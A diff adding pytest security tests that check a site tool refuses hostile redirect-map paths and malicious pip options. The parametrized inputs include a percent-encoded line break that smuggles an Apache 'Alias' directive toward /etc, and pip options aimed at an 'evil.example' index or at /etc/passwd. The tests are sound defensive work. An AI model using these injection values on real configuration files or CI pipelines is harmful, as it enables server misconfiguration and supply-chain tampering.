@@ -1,0 +1,48 @@
+"""Hostile-input review of issue 14's change: each test pins one finding (see the commits)."""
+
+from __future__ import annotations
+
+import pytest
+
+from bantin.site.redirectmap import parse_redirect_map
+from bantin.tools import starter
+from bantin.tools.importer.webserver import apache_redirects, nginx_redirects
+
+
+# --- redirect map → Apache rules ------------------------------------------------------------
+# Apache's RewriteRule matches the decoded path, so webserver.py unquotes the old path; a
+# `%0A` (or `%09`, `%00`) there became a real line break (or argument separator) in the
+# configuration: a map line from a hostile old portal could add directives of its own.
+
+@pytest.mark.parametrize("encoded", ["%0A", "%0d", "%09", "%00", "%0b", "%7F", "%C2%85"])
+def test_a_percent_encoded_control_character_in_an_old_path_is_refused(encoded):
+    line = f"http://cu.gov.vn/a{encoded}Alias%09/x%09/etc/.aspx /tin-tuc/a/\n"
+    pairs, problems = parse_redirect_map(line, "redirects/old-host.map")
+    assert pairs == [] and len(problems) == 1 and problems[0].line == 1
+    assert "\n" not in apache_redirects(pairs).split("RewriteEngine On", 1)[1].strip()
+
+
+def test_apache_rules_never_hold_a_control_character():
+    pairs, _ = parse_redirect_map("http://cu.gov.vn/tin%20tuc/b%C3%A0i.aspx?id=1 /tin-tuc/bai/\n", "m")
+    assert pairs  # a percent-encoded space or letter is still an address
+    for text in (apache_redirects(pairs), nginx_redirects(pairs)):
+        body = text.replace("\n", "")
+        assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in body)
+
+
+# --- bantin init --package → requirements.txt ---------------------------------------------
+# requirements.txt is read by pip in CI: a `--package` that is a pip option (`--index-url`,
+# `-r`, `-e`, `--extra-index-url`) is not a requirement and would change where CI installs from.
+
+@pytest.mark.parametrize("package", ["--index-url https://evil.example/simple", "-r /etc/passwd",
+                                     "--extra-index-url=https://evil.example/", "-e git+https://evil.example/x"])
+def test_init_refuses_a_package_that_is_a_pip_option(tmp_path, package):
+    with pytest.raises(starter.InitError):
+        starter.create(tmp_path / "site", starter.Answers(package=package), "0.1.0")
+    assert not (tmp_path / "site").exists()
+
+
+@pytest.mark.parametrize("package", ["bantin==0.1.0", "bantin @ git+https://github.com/bantin-vn/bantin@v0.1.0"])
+def test_init_takes_a_requirement_or_a_git_url(tmp_path, package):
+    starter.create(tmp_path / "site", starter.Answers(package=package), "0.1.0")
+    assert package in (tmp_path / "site" / "requirements.txt").read_text(encoding="utf-8")
